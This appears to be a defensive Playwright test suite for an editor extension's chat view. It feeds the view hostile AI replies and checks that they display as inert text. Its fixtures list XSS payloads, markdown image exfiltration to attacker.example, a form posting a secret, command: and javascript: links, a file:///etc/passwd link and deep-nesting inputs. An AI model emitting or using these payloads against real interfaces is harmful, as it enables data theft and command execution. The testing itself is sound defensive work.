import assert from 'node:assert/strict';
import type { Frame } from 'playwright-core';
import type { Player } from '#test/support/mistral/startMistral.ts';
import { chatView } from '#test/support/workbench/chat.ts';
import { addKey } from '#test/support/workbench/keyBox.ts';
import type { Room } from '#test/support/workbench/room.ts';
import { openRoom } from '#test/support/workbench/room.ts';
import type { Workbench } from '#test/support/workbench/workbench.ts';

const attacker = 'attacker.example';
const run = 'globalThis.ran=1';

/** Every one of them would run something, load something or press something, were it drawn as it is written. */
const replies = {
  'scripts and handlers': [
    `<script>${run}</script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<svg onload=${run}><image href=http://${attacker}/1.svg></svg>`,
    `<img src=http://${attacker}/2.png onerror=${run}>`,
    `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    `<input autofocus onfocus=${run}>`,
    `<details open ontoggle=${run}>x</details>`,
    `<math><mtext><table><mglyph><style><img src onerror=${run}>`,
  ],
  'images and whatever else loads by itself': [
    `![chart](http://${attacker}/3.png?q=everything-said)`,
    `![a][b]\n\n[b]: http://${attacker}/4.png`,
    `<link rel=stylesheet href=http://${attacker}/5.css>`,
    `<style>@import url(http://${attacker}/6.css);</style>`,
    `<div style="background:url(http://${attacker}/7.png)">x</div>`,
    `<video poster=http://${attacker}/8.png></video>`,
    `<meta http-equiv=refresh content="0;url=http://${attacker}/9">`,
  ],
  'forms and links that are commands': [
    `<form action=http://${attacker}/10><input name=q value=secret><button>Go on</button></form>`,
    '[Sign in again](command:workbench.action.terminal.new)',
    '[Repair](command:workbench.action.showCommands)',
    '<a href="command:workbench.action.terminal.new">Terminal</a>',
    '[Open](vscode://mistral-guard.mistral-guard/run)',
    `[Run](javascript:${run})`,
    '<command:workbench.action.terminal.new>',
    '[Passwords](file:///etc/passwd)',
  ],
  'nesting without end': [
    `${'> '.repeat(400)}deep`,
    `${'[x]('.repeat(300)}javascript:${run}${')'.repeat(300)}`,
    `${'**_'.repeat(300)}deep`,
    `${'- '.repeat(200)}deep`,
  ],
} as const;

/** All that a reply may be made of is inert; what can be pressed is our own. */
const unsafe =
  'script, style, link, meta, base, img, image, picture, video, audio, iframe, object, embed, form, input, [src], [href], [srcset], [style*="url"], [onclick], [onload], [onerror], [onfocus], [ontoggle], [data-link]:not([data-link^="http"])';

suite('A hostile reply in the chat', () => {
  let room: Room;
  let mistral: Player;
  let code: Workbench;
  const asked: string[] = [];

  suiteSetup(async () => {
    room = await openRoom();
    ({ code, mistral } = room);
    await code.activityBar.open('Mistral Guard');
    await addKey(code, 'production', mistral.keys.add({ kind: 'studio', name: 'laptop' }).raw);
    await chat().open();
    code.page.context().on('request', (request) => asked.push(request.url()));
  });

  suiteTeardown(() => room.leave());

  const chat = () => chatView(code.page);

  for (const [what, lines] of Object.entries(replies))
    test(`${what}: shown as words, and nothing else happens`, async () => {
      mistral.script(lines.join('\n\n'));
      await chat().send('Show me how the page is built.');
      const turn = chat().turn();
      await turn.over();
      await turn.element.locator('.reply').waitFor();
      assert.notEqual((await turn.reply()).trim(), '');
      assert.equal(await turn.element.locator('.reply').locator(unsafe).count(), 0);
      await pressEverything();
      await code.screenshot(`chat-hostile-${what.split(' ')[0]}`);
      await nothingHappened();
    });

  /** As somebody who clicks on whatever looks like a link: each one only asks, and names where it leads. */
  async function pressEverything(): Promise<void> {
    for (const link of await chat().turn().element.locator('.reply .link').all()) {
      await link.click();
      assert.equal(await code.dialog.message(), `Open ${attacker}?`);
      await code.dialog.press('Cancel');
    }
  }

  async function nothingHappened(): Promise<void> {
    assert.deepEqual(
      asked.filter((url) => url.includes(attacker)),
      [],
      'a request left',
    );
    const ran = await Promise.all(code.page.frames().map(hasRun));
    assert.ok(!ran.includes(true), 'a script ran');
    assert.equal(await code.page.locator('.terminal-wrapper').count(), 0, 'a command ran');
    assert.equal(await code.quickInput.box.count(), 0, 'a command ran');
  }

  const hasRun = (frame: Frame): Promise<boolean> => frame.evaluate(() => 'ran' in globalThis).catch(() => false);
});
